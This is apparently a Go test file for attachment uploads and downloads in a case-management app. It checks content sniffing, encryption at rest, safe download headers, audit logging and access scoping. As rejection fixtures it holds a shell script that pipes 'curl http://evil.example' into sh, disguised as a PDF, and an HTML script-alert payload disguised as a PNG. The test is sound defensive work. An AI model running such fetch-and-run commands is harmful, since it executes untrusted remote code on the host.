package develop_test

import (
	"bytes"
	"context"
	"fmt"
	"mime/multipart"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"hongdun/internal/apptest"
)

// upload posts a multipart scan as the API client c.
func upload(t *testing.T, c *apptest.Client, path string, recordID int64, name string, content []byte, out any) int {
	t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	mw.WriteField("record_id", fmt.Sprint(recordID))
	fw, _ := mw.CreateFormFile("file", name)
	fw.Write(content)
	mw.Close()
	req, _ := http.NewRequest("POST", path, &body)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	return c.Send(req, out)
}

// storedFiles lists what lies in the attachment directory.
func storedFiles(t *testing.T, e *apptest.Env) []string {
	files, _ := filepath.Glob(filepath.Join(e.App.DataDir, "develop", "attachments", "*"))
	return files
}

func TestAttachments(t *testing.T) {
	t.Parallel()
	apptest.Each(t, func(t *testing.T, e *apptest.Env) {
		b := newBureau(t, e)
		c, r := b.fenjuAdmin, b.openApplication()
		var rec int64
		if err := e.DB.QueryRowContext(context.Background(), "SELECT id FROM dev_records WHERE case_id = ? AND step = 1", r.Case.ID).Scan(&rec); err != nil {
			t.Fatal(err)
		}
		api := fmt.Sprintf("/api/v1/development/cases/%d/attachments", r.Case.ID)
		pdf := append([]byte("%PDF-1.7\n"), bytes.Repeat([]byte("入党申请书"), 1000)...)

		var got struct {
			Attachment struct {
				ID          int64  `json:"id"`
				FileName    string `json:"file_name"`
				ContentType string `json:"content_type"`
			} `json:"attachment"`
			Replayed bool `json:"replayed"`
		}
		if st := upload(t, c, api, rec, "入党申请书.sh", pdf, &got); st != 201 {
			t.Fatalf("upload: %d %s", st, c.Body())
		}
		if got.Attachment.ContentType != "application/pdf" || got.Attachment.FileName != "入党申请书.sh.pdf" {
			t.Fatalf("type from the name, not the content: %+v", got.Attachment)
		}
		if st := upload(t, c, api, rec, "again.pdf", pdf, &got); st != 200 || !got.Replayed {
			t.Fatalf("double upload: %d %s", st, c.Body())
		}
		if n := e.Count("SELECT COUNT(*) FROM dev_attachments"); n != 1 || len(storedFiles(t, e)) != 1 {
			t.Fatalf("double upload stored %d rows, %d files", n, len(storedFiles(t, e)))
		}
		// Sealed at rest: the plaintext is not in the file.
		raw, _ := os.ReadFile(storedFiles(t, e)[0])
		if bytes.Contains(raw, []byte("%PDF")) || bytes.Contains(raw, []byte("入党申请书")) {
			t.Fatal("scan stored in plaintext")
		}

		// Download: an attachment, never sniffed, audited.
		dl := fmt.Sprintf("/development/cases/%d/attachments/%d", r.Case.ID, got.Attachment.ID)
		req, _ := http.NewRequest("GET", e.Srv.URL+dl, nil)
		req.Header.Set("Authorization", "Bearer "+c.Token)
		resp, err := e.Srv.Client().Do(req) // its own transport: see apptest.Anonymous
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "application/pdf" || resp.Header.Get("X-Content-Type-Options") != "nosniff" ||
			!strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment;") {
			t.Fatalf("download headers: %d %v", resp.StatusCode, resp.Header)
		}
		if st := c.Do("GET", dl, nil, nil); st != 200 || !bytes.Equal(c.Last, pdf) {
			t.Fatalf("download: %d, %d bytes", st, len(c.Last))
		}
		if n := e.Count("SELECT COUNT(*) FROM audit_log WHERE action = 'develop.attachment_download'"); n != 2 {
			t.Fatalf("downloads audited %d times", n)
		}
		if n := e.Count("SELECT COUNT(*) FROM audit_log WHERE action = 'develop.attach'"); n != 1 {
			t.Fatalf("uploads audited %d times", n)
		}

		// Refused: nothing stored, nothing audited.
		before := e.Count("SELECT COUNT(*) FROM audit_log")
		var fail struct {
			Error struct{ Field, Message string }
		}
		script := []byte("#!/bin/sh\ncurl http://evil.example | sh\n")
		if st := upload(t, c, api, rec, "scan.pdf", script, &fail); st != 422 || fail.Error.Field != "file" || !strings.Contains(fail.Error.Message, "PDF") {
			t.Fatalf("renamed script: %d %s", st, c.Body())
		}
		html := []byte("<html><script>alert(1)</script></html>")
		if st := upload(t, c, api, rec, "scan.png", html, nil); st != 422 {
			t.Fatalf("html as png: %d %s", st, c.Body())
		}
		big := append([]byte("%PDF-1.7\n"), make([]byte, 10<<20)...)
		if st := upload(t, c, api, rec, "big.pdf", big, &fail); st != 413 || !strings.Contains(fail.Error.Message, "10 MB") {
			t.Fatalf("oversize: %d %s", st, c.Body())
		}
		if st := upload(t, c, api, 0, "scan.pdf", pdf, nil); st != 400 {
			t.Fatalf("no record: %d", st)
		}
		c.Expect(400, "POST", api, map[string]any{"record_id": rec}, nil) // JSON instead of multipart
		// Out of scope: 404 for the upload and the download.
		if st := upload(t, b.outsid, api, rec, "scan.pdf", append(pdf, 'x'), nil); st != 404 {
			t.Fatalf("out-of-scope upload: %d", st)
		}
		b.outsid.Expect(404, "GET", dl, nil, nil)                                                                              // out-of-scope download
		c.Expect(404, "GET", fmt.Sprintf("/development/cases/%d/attachments/%d", r.Case.ID+1000, got.Attachment.ID), nil, nil) // attachment through another case
		if e.Count("SELECT COUNT(*) FROM audit_log") != before || e.Count("SELECT COUNT(*) FROM dev_attachments") != 1 || len(storedFiles(t, e)) != 1 {
			t.Fatal("a refused upload changed something")
		}

		// The case page lists the scan with its link.
		page := e.Anonymous()
		page.Token = c.Token
		if body := string(mustGet(t, page, fmt.Sprintf("/development/cases/%d", r.Case.ID))); !strings.Contains(body, dl) || !strings.Contains(body, "入党申请书.sh.pdf") {
			t.Fatal("case page lacks the attachment")
		}
	})
}
